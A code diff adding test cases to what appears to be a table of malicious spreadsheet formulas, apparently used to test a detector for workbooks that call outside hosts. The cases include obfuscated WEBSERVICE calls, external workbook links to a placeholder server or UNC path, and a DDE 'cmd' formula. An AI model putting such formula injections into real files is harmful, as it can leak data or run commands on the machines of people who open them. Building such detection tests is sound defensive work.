@@ -26,6 +26,12 @@ const workbooks: Readonly<Record<string, Parts>> = {
   'a name of a function in pieces': formula(`_xlfn.WEB<!-- x -->SER<![CDATA[VICE("${address}")]]>`),
   'another program': formula(`cmd|'/c ${host}'!A0`),
   'a workbook of a server': formula(`'https://t.${host}/[x.xlsx]Hoja1'!A1`),
+  'a workbook of a server, its whole address in brackets': formula(`'[https://t.${host}/x.xlsx]Hoja1'!A1`),
+  'such a workbook without quotes': formula(`SUM([https://t.${host}/x.xlsx]Hoja1!A1:B9)`),
+  'such a workbook in a text': formula(`INDIRECT(&quot;'[https://t.${host}/x.xlsx]Hoja1'!A1&quot;)`),
+  'a workbook of another machine': formula(`'\\\\t.${host}\\vio\\[x.xlsx]Hoja1'!A1`),
+  'a service that another function calls': formula(`_xlfn.MAP(&quot;${address}&quot;,_xleta.WEBSERVICE)`),
+  'a service by another name': formula(`_xlfn.LET(_xlpm.f,WEBSERVICE,_xlpm.f(&quot;${address}&quot;))`),
   'a list of the web in a spreadsheet of the web': formula(
     `IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(""${address}"",""//a"")"),"1")`,
   ),
